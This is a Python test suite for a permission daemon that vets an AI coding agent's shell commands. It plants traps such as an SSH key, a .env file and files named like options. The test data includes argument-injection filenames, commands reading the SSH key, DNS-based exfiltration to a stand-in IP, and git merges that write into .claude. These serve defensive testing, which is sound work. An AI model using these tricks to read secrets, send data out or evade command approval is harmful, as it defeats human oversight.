# ruff: noqa: E501
"""Commands that once ran anything under the two rules that people begin with, on a real disk with the traps laid; and
the ordinary work beside them, which nobody wants to be asked about. Each goes the whole way from the request's bytes
to the answer."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from yourcall.agents.claude.agent import CLAUDE
from yourcall.daemon.rules.book import Rulebook
from yourcall.daemon.rules.paths import MOST_LOOKED, facts_of
from yourcall.model.action import Action
from yourcall.model.prompts import Option, Prompt, Question, Tool
from yourcall.rules.action_parts import parts
from yourcall.rules.policy import decide
from yourcall.rules.rule import RequestContext, Rule
from yourcall.rules.shell.items import Unread

QUESTION = Question("decision", "?", (Option("allow", "Yes", "allow_once"), Option("deny", "No", "deny")))
START = """
[reading]
do = "allow"
effect = "read"
[no-secrets]
do = "deny"
effect = "secrets"
"""
MORE = """
[tests]
do = "allow"
command = ["make test", "just check", "gradle test", "mvn test", "npm test", "npm run lint", "cargo test", "task lint", "pnpm test", "npx turbo run test"]
[writing]
do = "allow"
effect = ["read", "write_inside"]
[docs]
do = "allow"
effect = "network"
host = ["docs.example.com", "*.docs.example.com"]
"""


class _Empty:
    def body(self, id: str, /) -> bytes | None:
        del id
        return None

    def prompts(self, *, open_only: bool, limit: int, before: float | None = None) -> list[Prompt]:
        del open_only, limit, before
        return []


class House:
    def __init__(self, at: Path, rules: str) -> None:
        self.home, self.shop, kept = at / "home", at / "home" / "shop", at / "yourcall"
        for folder in (self.shop / "src", self.home / ".ssh", kept):
            folder.mkdir(parents=True)
        repository(self.shop / ".git")
        (self.home / ".ssh" / "id_ed25519").write_text("key")
        for name in ("a.py", "b.py", "src/c.py", "Makefile", "package.json"):
            (self.shop / name).write_text("{}")
        (kept / "rules.toml").write_text(rules)
        self._book = Rulebook(kept, _Empty(), {"claude": CLAUDE}.get, lambda: 0, lambda _: str(self.shop))

    def lay(self, *names: str) -> None:
        for name in names:
            path = self.shop / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text("evil\n")

    def says(self, command: str) -> str:
        request = json.dumps({"tool_name": "Bash", "tool_input": {"command": command}}).encode()
        prompt = Prompt("p", "permission", "claude", "s", str(self.shop), command, 1.0, tool=Tool("Bash"),
                        questions=(QUESTION,))  # fmt: skip
        answer = self._book.told(prompt, request, 1.0).answer
        return answer.choices["decision"][0] if answer is not None else "ask"


def repository(at: Path) -> None:
    for name in ("objects", "refs"):
        (at / name).mkdir(parents=True)
    (at / "HEAD").write_text("ref: refs/heads/main\n")


@pytest.fixture
def house(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> House:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    return House(tmp_path, START + MORE)


@pytest.mark.parametrize(
    "command",
    [
        "echo '-maxdepth 0 -exec CMD ;' | xargs -I NOPE -n 99 find .",
        "echo ~/.ssh/id_ed25519 | xargs -I NOPE -n 9 cat",
        "echo x | xargs -I NOPE -L 1 cat",
        "echo x | xargs -I NOPE --max-args=1 cat",
        "echo x | xargs -I NOPE --max-lines=1 cat",
        "echo x | xargs -I NOPE sed -n 1p a.py",
        "echo x | xargs -I NOPE git log",
        "echo x | xargs cat",
        "ls | xargs wc -l",
        "git ls-files | xargs wc -l",
        "find . -name '*.py' | xargs -i wc -l",
        "find . -name '*.py' | xargs --process-slot-var=PATH wc -l",
        "find . -name '*.py' | xargs -J % wc -l %",
        "find . -name '*.py' | xargs -a list wc -l",
        "find . -name '*.py' -print0 | xargs wc -l",
        "find . -name '*.py' | xargs -0 wc -l",
        "find . -printf '%f\\n' | xargs wc -l",
        "find $x -name '*.py' | xargs wc -l",
        "find -L . -name '*.py' | xargs wc -l",
        "{ find .; echo x; } | xargs wc -l",
        "find . | sort | xargs wc -l",
        "find . | xargs sort -o",
        "find . | xargs sh",
        "find . | xargs find",
        "find . | xargs jq",
        "find src -name '*.py' | xargs wc -l < list",
        "find src -name '*.py' | xargs < list wc -l",
        "find src -name '*.py' | < list xargs wc -l",
        "find src -name '*.py' | { xargs wc -l; } < list",
        "find src -name '*.py' |& xargs wc -l",
        "find src -name '*.py' > f | xargs wc -l",
        "for _ in a.py; do echo .env; cat $_; done",
        "for f in a.py; do read f; cat $f; done",
        "for f in a.py; do eval f=.env; cat $f; done",
    ],
)
def test_what_comes_through_a_pipe_is_never_known(house: House, command: str) -> None:
    assert house.says(command) == "ask"


def test_files_that_are_found_are_read_unless_one_of_them_is_a_trap(house: House) -> None:
    pipe, zero, runs = (
        "find . -name '*.py' | xargs wc -l",
        "find . -name '*.py' -print0 | xargs -0 wc -l",
        "find . -name '*.py' -exec grep -l x {} +",
    )
    for command in (pipe, zero, runs, "find src | xargs cat", "grep -rl x src | xargs wc -l"):
        assert house.says(command) == "allow", command
    house.lay("x --files0-from=/etc/y.py")  # a blank cuts it into an option
    assert [house.says(command) for command in (pipe, zero, runs)] == ["ask", "allow", "allow"]
    assert house.says("find src -name '*.py' | xargs wc -l") == "allow"
    (house.shop / "src" / "k.py").symlink_to(house.home / ".ssh" / "id_ed25519")
    for command in (zero, runs, "find src -name '*.py' | xargs wc -l", "find . -type f -exec cat {} +"):
        assert house.says(command) == "deny", command
    assert house.says("find src -name 'c*' | xargs wc -l") == "allow"
    house.lay("src/.env")
    assert house.says("find src -name '.e*' -exec cat {} +") == "deny"
    assert house.says("mkdir 'src/a -n' && find src -name 'c*' | xargs wc -l") == "ask"
    assert house.says("mv src/c.py 'src/c -n' && find src -name 'c*' | xargs wc -l") == "ask"


def test_too_many_files_are_not_looked_at_one_by_one(house: House, monkeypatch: pytest.MonkeyPatch) -> None:
    assert MOST_LOOKED >= 2_000
    monkeypatch.setattr("yourcall.daemon.rules.paths.MOST_LOOKED", 5)
    assert house.says("find . -name '*.py' | xargs wc -l") == "ask"


@pytest.mark.parametrize(
    ("trap", "command"),
    [
        ("-exec", "find . -exe[c.] sh x ';'"),
        ("-exec", "find . -ex* sh x ';'"),
        ("-exec", "find . [-]exec sh x ';'"),
        ("-exec", "find . ?exec sh x ';'"),
        ("-delete", "find . -delet[e.]"),
        ("-delete.py", "find . -name *.py"),
        (";", "find . -exec echo {} * -exec sh evil ';'"),
        ("--pre=sh", "rg x ./-* -*"),
        ("--pre=sh", "rg x *"),
        ("--pre=sh", "rg x [-]*"),
        ("-Osh", "git grep -* x"),
        ("-Osh", "git grep * x"),
        ("-o/x", "sort */./x"),
        ("drop", "git stash d*"),
        ("expire", "git reflog e*"),
        ("run", "git bisect r*"),
        ("of=.bashrc", "dd if=a.py o*"),
        ("SHELL=evil", "make test S*"),
        ("deploy", "make test d*"),
        ("-rf", "for f in *; do cat $f; done"),
        ("a b", "for f in *; do cat $f; done"),
        ("--files0-from=a.py", 'for f in *.py; do wc -l "$f"; done'),
        ("a.py", "> '--pre=sh'; rg x *"),
        ("a.py", "touch ./--pre=sh && rg x *"),
        ("a.py", "touch -- --pre=sh && rg x *"),
        ("a.py", "mkdir -p -- -o && sort *"),
        ("a.py", "git clone https://docs.example.com/d && cat d*/x"),
        ("a.py", "ln -s src/c.py q.txt && cat q*"),
        ("a.py", "git pull && git grep * x"),
        ("-x", "uniq -- a.py -x"),
        ("-x", "cp -- a.py b.py -x"),
    ],
)
def test_a_word_that_a_pattern_makes_may_be_an_option(house: House, trap: str, command: str) -> None:
    house.lay(trap)
    assert house.says(command) == "ask"


def test_to_zsh_other_signs_are_patterns_too(house: House) -> None:
    """With `extendedglob`, which many set, these find the key's name."""
    (house.shop / "key.txt").symlink_to(house.home / ".ssh" / "id_ed25519")
    for pattern in ("ke#y.txt", "^a.py", "key.txt~x", "k^x", "*~a.py"):
        assert house.says(f"cat {pattern}") != "allow", pattern
    assert house.says("git diff HEAD~1 HEAD^ -- src") == "allow"


def test_a_folder_that_git_takes_for_a_repository(house: House) -> None:
    shop = house.shop
    commands = ("git -C d diff HEAD~1 HEAD", "cd d && git status", "git -C d/deep log")
    (shop / "d" / "deep").mkdir(parents=True)
    for command in commands:
        assert house.says(command) == "allow", command
    (shop / "d" / "HEAD").write_text("ref: refs/heads/main\n")
    (shop / "d" / "commondir").write_text("../elsewhere\n")
    for command in commands:
        assert house.says(command) == "ask", command
    (shop / "d" / ".git").mkdir()  # an empty one is none to git, which goes on looking
    assert house.says("git -C d diff") == "ask"
    (shop / "d" / ".git").rmdir()
    (shop / "d" / "HEAD").unlink()
    repository(shop / "elsewhere")
    (shop / "d" / ".git").write_text("gitdir: ../elsewhere\n")
    assert house.says("git -C d diff") == "ask"
    (shop / "d" / ".git").unlink()
    (shop / "d" / ".git").symlink_to(shop / "elsewhere")
    assert house.says("git -C d diff") == "ask"
    (shop / "d" / ".git").unlink()
    repository(shop / ".git" / "modules" / "d")
    (shop / "d" / ".git").write_text("gitdir: ../.git/modules/d\n")  # a submodule
    assert house.says("git -C d diff") == "allow"
    repository(shop / "tpl")
    for command in (
        "mv tpl q && git -C q status",
        "cp tpl/HEA[D] src && git -C src status",
        "mkdir q && echo x > q/HEAD && echo ../tpl > q/commondir && git -C q status",
    ):
        assert house.says(command) == "ask", command


@pytest.mark.parametrize(
    "command",
    [
        "sh -c 'a+=./x'",
        "a+=./x",
        "dash -c 'a+=./x; ls'",
        "{ echo a } always { rm x; }",
        "{ ls } always { ./x; }",
        'x="y[$a(CMD)1]"; echo $y[x]',
        'echo "$y[x]"',
        'echo "$#y[x]"',
        "echo $+y[x]",
        "echo ${ ./x; }",
        "echo ${| ./x; }",
        "sh -c 'ls &> f'",
        "busybox sh -c 'cat <(ls)'",
        "dash -c \"echo \\$'x'\"",
        "ash -c 'echo ${x/a/b}'",
        "argv=x; ls",
        "[[*a.py || ./x ]]",
        "[[*README.>d || ./x ]]",
        "[ -f a.py]; ls",
        "cd -- && grep -r PRIVATE",
        "awk 1 a.py -f src/evil.awk",
    ],
)
def test_what_shells_read_in_different_ways_is_asked(house: House, command: str) -> None:
    assert house.says(command) != "allow"


def test_a_shell_that_nobody_names_may_be_any(house: House) -> None:
    rules = (Rule("reading", "allow", effect=("read",)),)
    for command, same in (("ls && pwd", True), ("[[ a || ./x ]]", False), ("ls &> /dev/null", False)):
        for unknown in (False, True):
            asked = Action("bash", "command", command=command, any_shell=unknown)
            found = parts(asked)
            listed = () if isinstance(found, Unread) else found
            facts = facts_of(listed, str(house.shop), str(house.shop), str(house.home))
            scene = RequestContext(root=str(house.shop), home=str(house.home))
            allowed = decide(rules, asked, facts, scene).do == "allow"
            assert allowed == (same or not unknown), (command, unknown)


@pytest.mark.parametrize(
    ("file", "text", "command"),
    [
        (".mvn/jvm.config", "-javaagent:x.jar", "mvn --version"),
        (".yarnrc", "yarn-path x", "yarn -v"),
        (".yarnrc.yml", "yarnPath: x", "yarn --version"),
        ("package.json", '{"packageManager": "yarn@https://x"}', "yarn --help"),
        ("package.json", '{"packageManager": "pnpm@9"}', "pnpm -v"),
        ("package.json", '{"p\\u0061ckageManager": "npm@https://x"}', "npm --version"),
        ("rust-toolchain.toml", '[toolchain]\npath = "x"', "cargo --version"),
        ("rust-toolchain", "x", "rustc -V"),
        ("gradle.properties", "org.gradle.jvmargs=-javaagent:x", "gradle --version"),
        ("global.json", "{}", "dotnet --version"),
        (".tool-versions", "python path:./x", "python --version"),
        ("mise.toml", "x", "node -v"),
    ],
)
def test_a_version_may_be_told_by_the_projects_own_code(house: House, file: str, text: str, command: str) -> None:
    assert house.says(command) == "allow"
    assert house.says(f"cd src && {command}") == "allow"
    house.lay(file)
    (house.shop / file).write_text(text)
    assert house.says(command) == "ask"
    assert house.says(f"cd src && {command}") == "ask"


def test_a_rule_for_one_target_is_none_for_the_next(house: House) -> None:
    for command in ("make test", "make -j4 test", "make -j 4 -k test", "make test -s", "cargo -q test", "npm test a",
                    "npm run lint -- --fix", "just check", "cargo test parser",
                    "pnpm test a", "npx turbo run test"):  # fmt: skip
        assert house.says(command) == "allow", command
    for command in ("make test deploy", "make deploy test", "make -j4 test deploy", "just check deploy", "mvn test deploy",
                    "gradle test publish", "task lint release", "npx turbo run test deploy", "make -j4", "make -C src test", "make -f x test",
                    "make -j ../x test", "make test -- deploy", "just check -- deploy",
                    "make -j deploy test", "make --jobs deploy test", "pnpm -w deploy test"):  # fmt: skip
        assert house.says(command) == "ask", command


@pytest.mark.parametrize(
    "command",
    [
        "git merge -X subtree=.claude evil",
        "git merge -Xsubtree=.claude evil",
        "git merge --strategy-option=subtree=.claude evil",
        "git merge --strategy-option subtree=.claude evil",
        "git merge -nXsubtree=.claude evil",
        "git merge -X subtree evil",
        "git merge -s subtree evil",
        "git cherry-pick -X subtree=.claude evil",
        "git revert -Xsubtree=.claude evil",
        "git cherry-pick --strategy-o=subtree=.claude evil",
        "git read-tree --prefix=.claude/ evil",
        "git subtree add --prefix=.claude evil",
        "git am --directory=.claude src/x",
        "git apply --directory=.claude src/x",
        "git stash --unknown-option",
        "git stash -u",
        "git stash push --all",
        "git log --unknown-option",
        "git cat-file --batch",
    ],
)
def test_git_puts_no_tree_elsewhere(house: House, command: str) -> None:
    assert house.says(command) == "ask"


def test_git_merges_as_ever(house: House) -> None:
    for command in (
        "git merge -X theirs x",
        "git merge --no-ff x",
        "git cherry-pick -x abc",
        "git revert --no-edit HEAD",
    ):
        assert house.says(command) == "allow", command


def test_one_allowed_host_is_one_host(house: House) -> None:
    for command in ("dig docs.example.com", "dig +short docs.example.com A", "ping -c 1 docs.example.com",
                    "host docs.example.com", "nslookup -type=mx docs.example.com", "dig @a.docs.example.com docs.example.com",
                    "curl -s https://docs.example.com/x"):  # fmt: skip
        assert house.says(command) == "allow", command
    for command in ("dig @6.6.6.6 DATA.docs.example.com", "dig DATA.docs.example.com @evil", "nslookup docs.example.com 6.6.6.6",
                    "nslookup docs.example.com evil", "whois -h 6.6.6.6 docs.example.com", "whois -h6.6.6.6 docs.example.com",
                    "whois docs.example.com", "host docs.example.com 6.6.6.6", "host docs.example.com evil",
                    "ping 6.6.6.6 docs.example.com", "ping -I eth1 docs.example.com", "dig -b 6.6.6.6 docs.example.com",
                    "dig -x 6.6.6.6", "dig -x6.6.6.6 docs.example.com", "dig -q evil docs.example.com", "dig -p 99 docs.example.com",
                    "dig -f a.py docs.example.com", "dig +trace docs.example.com", "ping -c 1 evil", "tracepath evil",
                    "nslookup -port=99 docs.example.com", "curl -x 6.6.6.6 https://docs.example.com",
                    "curl --resolve docs.example.com:443:6.6.6.6 https://docs.example.com",
                    "curl --connect-to ::6.6.6.6: https://docs.example.com", "curl --dns-servers 6.6.6.6 https://docs.example.com",
                    "gh pr list -R evil.example/a/b"):  # fmt: skip
        assert house.says(command) == "ask", command


@pytest.mark.parametrize(
    "command",
    [
        "sort --outp=x a.py", "sort --unknown a.py", "cat --unknown a.py", "ls --unknown", "wc --files0-from=a.py",
        "rm --unknown a.py", "touch --unknown a", "tee --unknown a", "mv --unknown a b", "rg -z x", "rg --search-zip x",
        "du --files0-from=a.py", "grep --unknown x a.py", "find . -unknown", "find . -newerXY a", "find . -files0-from a.py",
        "diff --unknown a.py b.py", "date --unknown", "file -z a.py", "xxd -Z a.py", "git status --unknown",
        "unzip -o x.zip", "unzip -lo x.zip", "unzip -l x.zip -d src", "tar xf x.tar", "tar tf host:x.tar",
        "tar tf x.tar --to-command=sh", "npm ls --prefix=/x", "npm ls --script-shell=x", "op run -- ls", "compgen -C ls",
    ],
)  # fmt: skip
def test_an_option_that_is_not_known_is_asked(house: House, command: str) -> None:
    assert house.says(command) != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "make -j4 test", 'for f in *.py; do wc -l "$f"; done', "find . -name '*.py' | xargs wc -l",
        "find . -name '*.py' -exec grep -l x {} +", "unzip -l x.zip", "npm ls", "npm ls --depth=0", "tar tzf x.tgz",
        "for f in a.py b.py; do echo \"== $f\"; head -5 $f; done", 'for f in a b; do touch "$f.txt"; done',
        "for f in src/*.py; do [ -f \"$f\" ] && head -3 \"$f\"; done", "find src -type f -exec wc -l {} +",
        "find . -name '*.py' -not -path './x/*' | xargs grep -n foo", "find . -name '*.py' 2>/dev/null | xargs wc -l | tail -1",
        "find . -name '*.py' | xargs wc -l | sort -rn | head -20", "find . -name '*.py' | xargs -I{} wc -l {}",
        "find . -name '*.py' | xargs wc -l > counts.txt", "grep -rn x --include=*.py src", "ls *.py", "pip list",
        "basename \"$f\" .py", "git log --oneline --graph --all -20", "git log --pretty=format:'%h %s' -5",
        "git diff --stat HEAD~3", "git show --stat HEAD^", "git status -sb", "git log -p -2 -- src", "git diff --name-only main...HEAD",
        "rg -n --hidden -g '!x' foo src", "tail -n +5 a.py", "head -c 100 a.py", "sort -t, -k2,2n a.py", "ls -lah --sort=time",
        "du -sh * | sort -h", "diff -u a.py b.py", "grep -E -A3 -B2 'x|y' a.py", "stat -c %s a.py", "jq -r .x package.json",
        "node --version && npm --version && python3 --version", "git branch -vv", "git stash list", "git blame -L 1,3 a.py",
        "find . -maxdepth 2 -type d -not -name '.*'", "find . -path ./x -prune -o -name '*.py' -print", "date -u +%s",
        "git commit -m 'x'", "git checkout -b new", "git add -A", "mkdir -p a/b", "cp a.py c.py",
    ],
)  # fmt: skip
def test_ordinary_work_is_not_asked_about(house: House, command: str) -> None:
    assert house.says(command) == "allow"
